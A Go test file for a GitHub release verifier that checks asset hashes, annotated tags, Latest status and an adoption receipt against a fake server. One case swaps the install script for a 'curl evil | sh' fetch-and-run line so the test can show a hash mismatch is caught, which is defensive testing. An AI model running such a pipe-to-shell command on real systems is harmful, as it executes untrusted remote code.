package gh_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/aepgate/aepgate/internal/gh"
	"github.com/aepgate/aepgate/internal/testkit/ghfake"
)

const relTag = "v1.2.3"

func sum(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

// releaseFixture is a repository whose release v1.2.3 closes: files,
// manifest and three assets agree, the tag is annotated at main, and the
// Latest release's body carries the receipt.
type releaseFixture struct {
	f        *ghfake.Fake
	repo     *ghfake.Repo
	rel      *ghfake.Release
	commit   string
	manifest string
	assets   map[string][]byte
}

func newReleaseFixture(t *testing.T, mutate func(fx *releaseFixture, opts *ghfake.ReleaseOptions)) *releaseFixture {
	t.Helper()
	f := ghfake.New(t)
	fx := &releaseFixture{f: f, repo: f.CreateRepo("octo/demo")}
	files := map[string]string{
		"install.sh":    "#!/bin/sh\necho v1.2.3\n",
		"dist/tool.txt": "tool 1.2.3\n",
		"README.md":     "# demo\n",
	}
	fx.manifest = sum(files["README.md"]) + "  README.md\n" + sum(files["dist/tool.txt"]) + "  dist/tool.txt\n" + sum(files["install.sh"]) + "  install.sh\n"
	files["manifest.sha256"] = fx.manifest
	fx.commit = fx.repo.Commit("main", "release 1.2.3", files)
	fx.repo.Tag(relTag, "main", "release "+relTag)
	fx.assets = map[string][]byte{"manifest.sha256": []byte(fx.manifest), "install.sh": []byte(files["install.sh"]), "tool.txt": []byte("unused")}
	delete(fx.assets, "tool.txt")
	opts := ghfake.ReleaseOptions{Body: receiptBody(t, fx.commit), Assets: fx.assets}
	if mutate != nil {
		mutate(fx, &opts)
	}
	fx.rel = fx.repo.PublishRelease(relTag, opts)
	return fx
}

func receiptBody(t *testing.T, commit string) string {
	t.Helper()
	b, err := json.MarshalIndent(map[string]any{
		"schemaVersion": 1, "version": "1.2.3", "tag": relTag, "commit": commit, "state": "adopted",
		"ownerFacingOrchestratorSessionId": "orch-1", "adoptedAt": "2026-11-29T12:00:00Z",
		"adoptions": []any{map[string]any{"project": "alpha", "coordinatorSessionId": "c-1"}},
	}, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	return "Notes\r\n\r\n```json\r\n" + strings.ReplaceAll(string(b), "\n", "\r\n") + "\r\n```\r\n"
}

func (fx *releaseFixture) verify(t *testing.T, assets ...string) ([]string, []string) {
	t.Helper()
	c, err := gh.NewTokenClient(fx.f.URL(), fx.f.UserToken("octo"), fx.f.HTTPClient())
	if err != nil {
		t.Fatal(err)
	}
	if assets == nil {
		assets = []string{"manifest.sha256", "install.sh"}
	}
	res, err := gh.VerifyRelease(context.Background(), c, gh.ReleaseOptions{
		Repo: "octo/demo", Tag: relTag, AssetNames: assets, LocalManifest: []byte(fx.manifest), DownloadClient: fx.f.HTTPClient(),
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Closed != (len(res.Errors) == 0) {
		t.Errorf("closed %v with errors %v", res.Closed, res.Errors)
	}
	return res.Errors, res.Notes
}

func TestVerifyReleaseOnFake(t *testing.T) {
	tests := []struct {
		name   string
		mutate func(fx *releaseFixture, opts *ghfake.ReleaseOptions)
		after  func(fx *releaseFixture)
		want   []string
	}{
		{"closed", nil, nil, []string{}},
		{"tampered asset", nil, func(fx *releaseFixture) { fx.rel.ReplaceAssetBytes("install.sh", []byte("curl evil | sh\n")) },
			[]string{"github-release-asset-hash-mismatch:install.sh"}},
		{"main moved past the tag", nil, func(fx *releaseFixture) { fx.repo.Commit("main", "later", map[string]string{"x": "y"}) },
			[]string{"remote-tag-does-not-peel-exactly-to-remote-main"}},
		{"prerelease", func(_ *releaseFixture, o *ghfake.ReleaseOptions) { o.Prerelease = true }, nil,
			[]string{"github-release-not-latest", "github-release-object-mismatch"}},
		{"no receipt", func(_ *releaseFixture, o *ghfake.ReleaseOptions) { o.Body = "just notes" }, nil,
			[]string{"fleet-adoption-receipt-missing-or-invalid"}},
		{"asset missing", func(fx *releaseFixture, o *ghfake.ReleaseOptions) {
			o.Assets = map[string][]byte{"manifest.sha256": []byte(fx.manifest)}
		}, nil,
			[]string{"github-release-asset-hash-mismatch:install.sh"}},
		{"newer release is Latest", nil, func(fx *releaseFixture) {
			fx.repo.Tag("v1.2.4", "main", "next")
			fx.repo.PublishRelease("v1.2.4", ghfake.ReleaseOptions{})
		}, []string{"github-release-not-latest"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fx := newReleaseFixture(t, tt.mutate)
			if tt.after != nil {
				tt.after(fx)
			}
			fx.f.ResetLog()
			got, notes := fx.verify(t)
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("errors (-want +got):\n%s\nnotes: %v", diff, notes)
			}
			if w := fx.f.Writes(); len(w) != 0 {
				t.Errorf("verify wrote to GitHub: %v", w)
			}
		})
	}
}

func TestVerifyReleaseLightweightTag(t *testing.T) {
	f := ghfake.New(t)
	repo := f.CreateRepo("octo/demo")
	repo.LightweightTag(relTag, "main")
	repo.PublishRelease(relTag, ghfake.ReleaseOptions{})
	c, _ := gh.NewTokenClient(f.URL(), f.UserToken("octo"), f.HTTPClient())
	res, err := gh.VerifyRelease(context.Background(), c, gh.ReleaseOptions{Repo: "octo/demo", Tag: relTag, DownloadClient: f.HTTPClient()})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"github-release-asset-hash-mismatch:manifest.sha256", "remote-annotated-tag-missing-or-unreadable"}
	if diff := cmp.Diff(want, res.Errors); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if res.TagSha != nil {
		t.Errorf("tagSha %v for a lightweight tag", *res.TagSha)
	}
}

// TestVerifyReleaseUnpeeledTagAlone checks that a release whose assets and
// manifest are sound but whose tag does not peel (lightweight or deleted)
// is refused for the tag alone: nothing is compared with files at a tag
// that cannot be read.
func TestVerifyReleaseUnpeeledTagAlone(t *testing.T) {
	tests := []struct {
		name     string
		breakTag func(t *testing.T, fx *releaseFixture)
	}{
		{"lightweight tag", func(_ *testing.T, fx *releaseFixture) { fx.repo.LightweightTag(relTag, "main") }},
		{"deleted tag", func(t *testing.T, fx *releaseFixture) {
			tok := fx.f.ActionsToken(fx.repo, ghfake.Permissions{"contents": "write"})
			c, err := gh.NewTokenClient(fx.f.URL(), tok, fx.f.HTTPClient())
			if err != nil {
				t.Fatal(err)
			}
			if _, err := c.Git.DeleteRef(context.Background(), "octo", "demo", "tags/"+relTag); err != nil {
				t.Fatal(err)
			}
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fx := newReleaseFixture(t, nil)
			tt.breakTag(t, fx)
			got, notes := fx.verify(t)
			if diff := cmp.Diff([]string{"remote-annotated-tag-missing-or-unreadable"}, got); diff != "" {
				t.Errorf("errors (-want +got):\n%s\nnotes: %v", diff, notes)
			}
		})
	}
}

// TestVerifyReleaseManifestRootCause checks that a missing or invalid
// manifest at the tag is refused once, not again against every asset.
func TestVerifyReleaseManifestRootCause(t *testing.T) {
	tests := []struct {
		name     string
		manifest string // the manifest committed at the tag; "" leaves it out
		want     []string
	}{
		{"manifest missing", "", []string{"github-release-asset-hash-mismatch:manifest.sha256", "remote-manifest-missing"}},
		{"manifest invalid", "not a manifest\n", []string{"remote-manifest-invalid"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := ghfake.New(t)
			fx := &releaseFixture{f: f, repo: f.CreateRepo("octo/demo")}
			install := "#!/bin/sh\necho v1.2.3\n"
			files := map[string]string{"install.sh": install, "README.md": "# demo\n"}
			fx.manifest = sum(files["README.md"]) + "  README.md\n" + sum(install) + "  install.sh\n"
			assets := map[string][]byte{"install.sh": []byte(install), "manifest.sha256": []byte(fx.manifest)}
			if tt.manifest != "" {
				files["manifest.sha256"] = tt.manifest
				assets["manifest.sha256"] = []byte(tt.manifest)
			}
			fx.commit = fx.repo.Commit("main", "release 1.2.3", files)
			fx.repo.Tag(relTag, "main", "release "+relTag)
			fx.rel = fx.repo.PublishRelease(relTag, ghfake.ReleaseOptions{Body: receiptBody(t, fx.commit), Assets: assets})
			got, notes := fx.verify(t)
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("errors (-want +got):\n%s\nnotes: %v", diff, notes)
			}
		})
	}
}

// TestVerifyReleaseCallCount measures the API calls for a release with
// three assets (reported to the lead; not asserted as a timing).
func TestVerifyReleaseCallCount(t *testing.T) {
	fx := newReleaseFixture(t, func(fx *releaseFixture, o *ghfake.ReleaseOptions) {
		o.Assets = map[string][]byte{"manifest.sha256": []byte(fx.manifest), "install.sh": []byte("#!/bin/sh\necho v1.2.3\n"), "README.md": []byte("# demo\n")}
	})
	fx.f.ResetLog()
	got, notes := fx.verify(t, "manifest.sha256", "install.sh", "README.md")
	if len(got) != 0 {
		t.Fatalf("errors %v, notes %v", got, notes)
	}
	st := fx.f.Stats()
	t.Logf("release verify, 3 assets, 3-file manifest: %d requests (%d reads, %d writes) %v", st.Total, st.Reads, st.Writes, st.ByRoute)
	if st.Writes != 0 {
		t.Errorf("writes: %d", st.Writes)
	}
}
